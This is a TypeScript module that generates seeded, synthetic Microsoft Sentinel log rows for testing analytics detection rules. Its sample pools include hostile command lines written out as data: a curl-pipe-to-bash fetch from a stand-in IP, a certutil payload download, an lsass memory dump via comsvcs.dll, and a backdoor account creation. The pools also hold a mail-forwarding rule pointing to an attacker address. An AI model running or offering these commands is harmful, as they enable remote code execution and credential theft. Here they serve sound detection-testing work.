/**
 * Seeded generator of plausible Sentinel rows for `npm run corpus`: fills a table
 * from its schema so that real analytics rules have something to chew on.
 *
 *   const rows = generateRows('SigninLogs', schema, { seed: 'rule-id', now, periodMs: 3_600_000 });
 *
 * Values are chosen by column type and, where cheap, by column name: datetimes in
 * [now - period, now], IPs (private and public), UPNs, GUIDs, host names, command
 * lines, JSON text in string columns whose names suggest JSON (AdditionalFields,
 * Entities, ExtendedProperties, Parameters, ...), objects in dynamic columns, and
 * realistic enums (EventID numbers, ResultType "0"/"50126", ...). Small pools make
 * values repeat, so joins, summarize and dcount have groups to work with.
 * Same seed, same rows.
 */
import type { ColumnSchema } from '../src/runtime/types.js';

export type Rng = () => number;

/** mulberry32 over a 32-bit FNV-1a hash of the seed text. */
export function makeRng(seed: string): Rng {
  let h = 0x811c9dc5;
  for (let i = 0; i < seed.length; i++) {
    h ^= seed.charCodeAt(i);
    h = Math.imul(h, 0x01000193);
  }
  let a = h >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(rng: Rng, xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)]!;
const int = (rng: Rng, lo: number, hi: number) => lo + Math.floor(rng() * (hi - lo + 1));

/**
 * A duration as a number of milliseconds: ISO 8601 (PT1H, P14D, P1DT12H) or
 * KQL-ish (1h, 14d, 30m, 90s, 2.5h). Undefined when not understood.
 */
export function parseDuration(text: string | null | undefined): number | undefined {
  if (!text) return undefined;
  const t = text.trim();
  const iso = /^P(?:(\d+(?:\.\d+)?)W)?(?:(\d+(?:\.\d+)?)D)?(?:T(?:(\d+(?:\.\d+)?)H)?(?:(\d+(?:\.\d+)?)M)?(?:(\d+(?:\.\d+)?)S)?)?$/i.exec(t);
  if (iso && t.length > 1 && !/T$/i.test(t)) {
    const [, w, d, h, m, s] = iso.map((x) => (x === undefined ? 0 : Number(x)));
    return ((((w! * 7 + d!) * 24 + h!) * 60 + m!) * 60 + s!) * 1000;
  }
  const kql = /^(\d+(?:\.\d+)?)\s*(d|h|m|s|ms|min|hr|day|days|hours?|minutes?|seconds?)$/i.exec(t);
  if (kql) {
    const n = Number(kql[1]);
    const u = kql[2]!.toLowerCase();
    const unit = u === 'ms' ? 1 : u.startsWith('s') ? 1000 : u.startsWith('m') ? 60_000 : u.startsWith('h') ? 3_600_000 : 86_400_000;
    return n * unit;
  }
  return undefined;
}

const USERS = ['alice', 'bob', 'carol', 'dave', 'eve', 'mallory', 'svc-backup', 'admin'];
const DOMAINS = ['contoso.com', 'fabrikam.onmicrosoft.com'];
const HOSTS = ['WS-0001', 'WS-0002', 'SRV-DC01', 'SRV-SQL02', 'web-01', 'ip-10-0-0-12'];
const PRIVATE_IPS = ['10.0.0.5', '10.1.2.3', '192.168.1.20', '172.16.4.9', '127.0.0.1'];
const PUBLIC_IPS = ['203.0.113.7', '198.51.100.23', '52.168.10.4', '8.8.8.8', '185.220.101.3', '20.42.65.92', '2001:db8::1'];
const PROCESSES = ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\Windows\\System32\\rundll32.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  'C:\\Windows\\System32\\svchost.exe', '/usr/bin/bash', '/usr/bin/curl'];
const COMMAND_LINES = ['cmd.exe /c whoami /all', 'powershell.exe -NoProfile -EncodedCommand SQBFAFgA', 'rundll32.exe comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full',
  'net user /add backdoor P@ss', 'curl -fsSL http://203.0.113.7/x.sh | bash', 'svchost.exe -k netsvcs -p', 'certutil -urlcache -split -f http://198.51.100.23/a.exe'];
const OPERATIONS = ['Add member to role', 'Update user', 'Consent to application', 'Sign-in activity', 'Create', 'Delete',
  'Microsoft.Compute/virtualMachines/write', 'Microsoft.Authorization/roleAssignments/write', 'FileAccessed', 'MailItemsAccessed', 'New-InboxRule', 'Set-Mailbox'];
const RESULT_TYPES = ['0', '0', '0', '50126', '50053', '50074', '50140', '53003', '500121'];
const EVENT_IDS = [4624, 4625, 4688, 4720, 4726, 4728, 4732, 4740, 4768, 4769, 1102, 4104, 7045, 1, 3, 11];
const COUNTRIES = ['US', 'DE', 'GB', 'FR', 'NL', 'RU', 'CN', 'BR'];
const APPS = ['Azure Portal', 'Office 365 Exchange Online', 'Microsoft Teams', 'Azure CLI', 'Graph Explorer'];
const USER_AGENTS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36', 'python-requests/2.31.0', 'curl/8.4.0', 'aws-cli/2.13.0 Python/3.11'];
const PROTOCOLS = ['TCP', 'UDP', 'HTTPS', 'HTTP', 'DNS'];
const ACTIONS = ['Allow', 'Deny', 'Drop', 'Success', 'Failure', 'Blocked'];
const SEVERITIES = ['High', 'Medium', 'Low', 'Informational'];
const FILES = ['invoice.docm', 'payload.exe', 'report.pdf', 'run.ps1', 'lsass.dmp', 'update.dll'];
const HASH_CHARS = '0123456789abcdef';

export function guid(rng: Rng): string {
  const h = (n: number) => Array.from({ length: n }, () => HASH_CHARS[Math.floor(rng() * 16)]).join('');
  return `${h(8)}-${h(4)}-4${h(3)}-${pick(rng, ['8', '9', 'a', 'b'])}${h(3)}-${h(12)}`;
}
const hex = (rng: Rng, n: number) => Array.from({ length: n }, () => HASH_CHARS[Math.floor(rng() * 16)]).join('');
const upn = (rng: Rng) => `${pick(rng, USERS)}@${pick(rng, DOMAINS)}`;
const ip = (rng: Rng) => (rng() < 0.4 ? pick(rng, PRIVATE_IPS) : pick(rng, PUBLIC_IPS));

/** Column names whose string values are JSON text in Sentinel (and dynamic values in dynamic columns). */
const JSONISH = /^(AdditionalFields|AdditionalData|AdditionalDetails|AdditionalInfo|Entities|ExtendedProperties|ExtendedLinks|Parameters|Properties|Properties_d|Claims|DeviceDetail|LocationDetails|Status|AuthenticationDetails|AuthenticationProcessingDetails|ConditionalAccessPolicies|MfaDetail|NetworkLocationDetails|TargetResources|InitiatedBy|ModifiedProperties|AdditionalDetails|EventData|RawEventData|Details|Authorization|Authorization_d|Claims_d|HttpRequest|Tags|Labels|Comments|Alerts|Owner|Identity|RequestMetadata|AuthenticationInfo|Request|Response|ResourceLocation|ServiceData|Resources|ResourceIds|Data|Payload|Fields|Attributes|Target|Actor|Metadata|Context|ObjectAttributes)$|_json$|Json$|JSON$|Detail$|Details$|Properties$/;

/** A plausible JSON object or array for a column, keyed by its name where cheap. */
function jsonValue(rng: Rng, name: string, now: number): unknown {
  const u = upn(rng);
  switch (name) {
    case 'Entities':
      return [
        { $id: '1', Type: 'account', Name: u.split('@')[0], UPNSuffix: u.split('@')[1], AadUserId: guid(rng) },
        { $id: '2', Type: 'ip', Address: ip(rng) },
        { $id: '3', Type: 'host', HostName: pick(rng, HOSTS), OSFamily: 'Windows' },
      ];
    case 'DeviceDetail':
      return { deviceId: guid(rng), displayName: pick(rng, HOSTS), operatingSystem: pick(rng, ['Windows 10', 'MacOs', 'Ios', 'Linux']), browser: pick(rng, ['Edge 120.0', 'Chrome 119.0', 'Rich Client']), isCompliant: rng() < 0.5, isManaged: rng() < 0.5, trustType: 'Azure AD joined' };
    case 'LocationDetails':
      return { city: pick(rng, ['Seattle', 'Berlin', 'London', 'Moscow']), state: 'X', countryOrRegion: pick(rng, COUNTRIES), geoCoordinates: { latitude: 47.6, longitude: -122.3 } };
    case 'Status':
      return rng() < 0.6 ? { errorCode: 0 } : { errorCode: 50126, failureReason: 'Invalid username or password.' };
    case 'TargetResources':
      return [{ id: guid(rng), displayName: pick(rng, ['Global Administrator', 'ContosoApp', u]), type: pick(rng, ['User', 'Role', 'ServicePrincipal']), userPrincipalName: u,
        modifiedProperties: [{ displayName: 'Role.DisplayName', oldValue: '""', newValue: '"Global Administrator"' }] }];
    case 'InitiatedBy':
      return { user: { id: guid(rng), userPrincipalName: u, ipAddress: ip(rng), displayName: u.split('@')[0] }, app: { displayName: pick(rng, APPS), servicePrincipalId: guid(rng) } };
    case 'ConditionalAccessPolicies':
      return [{ id: guid(rng), displayName: 'Require MFA', result: pick(rng, ['success', 'failure', 'notApplied']), enforcedGrantControls: ['Mfa'] }];
    case 'AuthenticationDetails':
      return [{ authenticationStepDateTime: new Date(now).toISOString(), authenticationMethod: 'Password', succeeded: rng() < 0.5, authenticationStepResultDetail: 'MFA requirement satisfied by claim in the token' }];
    case 'ExtendedProperties':
      return { 'Compromised Host': pick(rng, HOSTS), 'User Name': u, 'IP Address': ip(rng), ProcessName: pick(rng, PROCESSES), 'Alert Type': 'SuspiciousActivity' };
    case 'Parameters':
      return [{ Name: 'Identity', Value: u }, { Name: 'ForwardTo', Value: `attacker@${pick(rng, ['evil.example', 'contoso.com'])}` }, { Name: 'DeleteMessage', Value: 'True' }];
    case 'AdditionalFields':
    default:
      return { Name: pick(rng, ['x', 'y', 'z']), Value: int(rng, 0, 9), UserPrincipalName: u, IpAddress: ip(rng), ClientIP: ip(rng), UserAgent: pick(rng, USER_AGENTS),
        AppId: guid(rng), Count: int(rng, 1, 50), Target: [{ Type: 'User', ID: u }], Items: [pick(rng, FILES), pick(rng, FILES)] };
  }
}

/** A string value for a column, chosen by its name. */
function stringValue(rng: Rng, table: string, name: string, now: number): string {
  const n = name.toLowerCase();
  if (JSONISH.test(name)) return JSON.stringify(jsonValue(rng, name, now));
  if (name === 'Type') return table;
  if (name === 'ResultType') return pick(rng, RESULT_TYPES);
  if (n === 'eventid') return String(pick(rng, EVENT_IDS));
  if (/(^|_)(ip|ipaddress|ipaddr|ipv4|ipv6)(_s)?$|ip(address|addr)?$|clientip|callerip|remoteip|localip|sourceip|destinationip|srcip|dstip|address$/i.test(name)) return ip(rng);
  if (/upn|userprincipalname|email|mail$|recipient|sender/.test(n)) return upn(rng);
  if (/(^|[a-z])(id|guid)(_g|_s)?$/i.test(name) && /id$|guid|_g$/i.test(name)) return guid(rng);
  if (/sid$/.test(n)) return `S-1-5-21-${int(rng, 1000, 9999)}-${int(rng, 1000, 9999)}-${int(rng, 500, 1200)}`;
  if (/account$|username$|user$|^user|caller$|actor|identity|subject/.test(n)) return rng() < 0.5 ? upn(rng) : `CONTOSO\\${pick(rng, USERS)}`;
  if (/computer|hostname|devicename|host$|machine|workstation|dvc$|dvchostname/.test(n)) return pick(rng, HOSTS);
  if (/commandline|cmdline|command$/.test(n)) return pick(rng, COMMAND_LINES);
  if (/process|image|filename|file$|path$|folder/.test(n)) return /filename/.test(n) ? pick(rng, FILES) : pick(rng, PROCESSES);
  if (/url|uri$|domain|fqdn|query$/.test(n)) return pick(rng, ['https://login.microsoftonline.com/common', 'http://203.0.113.7/x.sh', 'https://evil.example/a?b=1', 'contoso.com', 'fabrikam.onmicrosoft.com']);
  if (/useragent/.test(n)) return pick(rng, USER_AGENTS);
  if (/operationname|operation$|activity|action|eventname|methodname/.test(n)) return /action/.test(n) && rng() < 0.5 ? pick(rng, ACTIONS) : pick(rng, OPERATIONS);
  if (/country|location|region/.test(n)) return pick(rng, COUNTRIES);
  if (/severity|level$/.test(n)) return pick(rng, SEVERITIES);
  if (/protocol/.test(n)) return pick(rng, PROTOCOLS);
  if (/result|status|outcome/.test(n)) return pick(rng, ['Success', 'Failure', 'success', 'failure', '0']);
  if (/appdisplayname|application|appname|app$/.test(n)) return pick(rng, APPS);
  if (/hash|sha256|sha1|md5/.test(n)) return hex(rng, /md5/.test(n) ? 32 : /sha1/.test(n) ? 40 : 64);
  if (/port$/.test(n)) return String(pick(rng, [22, 53, 80, 443, 445, 3389, 8080]));
  if (/category|kind|source|vendor|product/.test(n)) return `${name}-${int(rng, 1, 3)}`;
  return `${name}-${int(rng, 1, 4)}`;
}

/** A value for one column of one row; datetimes are Date objects in [now - periodMs, now]. */
function value(rng: Rng, table: string, col: ColumnSchema, now: number, periodMs: number, literals: readonly string[]): unknown {
  if (rng() < 0.04 && col.type !== 'datetime') return null; // a few missing values
  if (col.type === 'string' && literals.length && col.name !== 'Type' && !JSONISH.test(col.name) && rng() < 0.25) return pick(rng, literals);
  switch (col.type) {
    case 'datetime':
      return new Date(now - Math.floor(rng() * periodMs));
    case 'string':
      return stringValue(rng, table, col.name, now);
    case 'int':
    case 'long': {
      const n = col.name.toLowerCase();
      if (n === 'eventid') return pick(rng, EVENT_IDS);
      if (/port$/.test(n)) return pick(rng, [22, 53, 80, 443, 445, 3389, 8080, int(rng, 1024, 65535)]);
      if (/logontype/.test(n)) return pick(rng, [2, 3, 10]);
      if (/count|bytes|size|duration/.test(n)) return int(rng, 0, 5000);
      return int(rng, 0, 20);
    }
    case 'real':
    case 'decimal':
      return Math.round(rng() * 10000) / 100;
    case 'bool':
      return rng() < 0.5;
    case 'guid':
      return guid(rng);
    case 'timespan':
      return int(rng, 0, 3_600_000);
    case 'dynamic':
      if (rng() < 0.15) return [ip(rng), upn(rng)];
      return jsonValue(rng, col.name, now);
    default:
      return null;
  }
}

export interface GenerateOptions {
  /** Seed text; same seed, same rows. */
  seed: string;
  /** Epoch milliseconds. */
  now: number;
  /** Datetimes fall in [now - periodMs, now]. */
  periodMs: number;
  /**
   * Text values to mix into string columns (about 1 value in 4), typically the
   * query's string literals, so that its filters match some rows.
   */
  literals?: readonly string[];
  /** Row count; default 20-50 chosen by the seed. */
  rows?: number;
}

/** Rows (plain objects) for a table of the given schema. */
export function generateRows(table: string, schema: readonly ColumnSchema[], options: GenerateOptions): Record<string, unknown>[] {
  const rng = makeRng(`${options.seed}/${table}`);
  const count = options.rows ?? int(rng, 20, 50);
  const out: Record<string, unknown>[] = [];
  for (let i = 0; i < count; i++) {
    const row: Record<string, unknown> = {};
    for (const col of schema) row[col.name] = value(rng, table, col, options.now, options.periodMs, options.literals ?? []);
    out.push(row);
  }
  return out;
}
